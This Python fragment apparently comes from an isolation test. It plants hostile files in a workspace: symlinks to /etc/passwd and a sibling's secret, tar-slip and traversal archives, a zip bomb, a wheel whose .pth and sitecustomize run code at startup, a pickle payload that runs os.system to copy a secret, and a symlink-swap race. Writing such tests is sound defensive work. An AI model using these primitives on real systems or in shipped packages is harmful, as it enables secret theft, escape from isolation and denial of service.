# 10 to 12, 14, 15, 26, 27: what waits in a workspace for whoever serves files, archives, checkpoints and packages
import io, tarfile, zipfile

sibling, layer = known["sibling"], known["layer"]
for name in (b"\xff\xfe", b"new\nline", b"\xe2\x80\xaegnp.exe", b"x" * 255, b"-rf", b"\x1b]0;t\x07", b"%2e%2e", b"..."):
    with open(name, "w") as file:
        file.write("mine")
os.symlink("/etc/passwd", "to-passwd")
os.symlink(sibling + "/secret", "to-sibling")
os.symlink(sibling, "to-directory")
os.symlink("/", "to-root")
os.symlink("/proc/self/environ", "to-proc")
os.symlink("loop", "loop")
os.mkfifo("pipe")
os.makedirs("bits")
open("bits/none", "w").close()
os.chmod("bits/none", 0)


def slip(name, *entries):
    with tarfile.open(name, "w") as archive:
        for path, kind, link in entries:
            it = tarfile.TarInfo(path)
            it.type, it.linkname, it.mode = kind, link, 0o6777
            it.size = 6 if kind == tarfile.REGTYPE else 0
            archive.addfile(it, io.BytesIO(b"slip-x"))


file, symbolic, hard = tarfile.REGTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE
slip("slip-up.tar", ("../../slip", file, ""))
slip("slip-absolute.tar", (sibling + "/slip", file, ""))
slip("slip-link.tar", ("l", symbolic, sibling), ("l/slip", file, ""))
slip("slip-root.tar", ("l", symbolic, "/"), ("l/" + sibling.lstrip("/") + "/slip", file, ""))
slip("slip-hard.tar", ("l", hard, sibling + "/secret"), ("l", file, ""))
slip("slip-device.tar", ("null", tarfile.CHRTYPE, ""), ("null/slip", file, ""))
slip("slip-twice.tar", ("d", tarfile.DIRTYPE, ""), ("d", symbolic, sibling), ("d/slip", file, ""))
# As these are, but for leading nowhere else: that the others are refused is for what is in them.
slip("good.tar", ("good", file, ""))
with zipfile.ZipFile("slip-bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("bomb", bytes(512 << 20))

# A wheel that writes beside its place, runs when an interpreter starts, and shadows the standard library.
with zipfile.ZipFile("evil-1.0-py3-none-any.whl", "w") as wheel:
    info = "evil-1.0.dist-info/"
    written = {
        "evil.py": "",
        "evil.pth": "import os; open('%s/pth', 'w')\n" % sibling,
        "sitecustomize.py": "import os\ntry: os.kill(os.getppid(), 9)\nexcept OSError: pass\n",
        info + "METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
        info + "WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    written[info + "RECORD"] = "".join("%s,,\n" % path for path in written) + info + "RECORD,,\n"
    for path, text in written.items():
        wheel.writestr(path, text)
with zipfile.ZipFile("slip-1.0-py3-none-any.whl", "w") as wheel:
    for path in ("../../../../../slip", layer + "/slip.py", sibling + "/slip"):
        wheel.writestr(path, "slip")
    wheel.writestr("slip-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: slip\nVersion: 1.0\n")
    wheel.writestr("slip-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    wheel.writestr("slip-1.0.dist-info/RECORD", "")


# A variable that does something when it is kept or comes back.
class Poison:
    def __reduce__(self):
        return (os.system, ("cat %s/secret > stolen; echo x > %s/slip" % (sibling, sibling),))


poison = Poison()

# A name that is a file, a link to a sibling's, and a directory in turns, while others look.
swap = """
import os, time
until = time.monotonic() + 20
open('mine', 'w').write('mine')
while time.monotonic() < until:
    for target in ('mine', %r, %r, '/etc/passwd'):
        os.symlink(target, 'swap.next')
        os.rename('swap.next', 'swap')
        time.sleep(0.0003)
""" % (sibling + "/secret", layer + "/readable.py")
subprocess.Popen([sys.executable, "-c", swap], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
report()
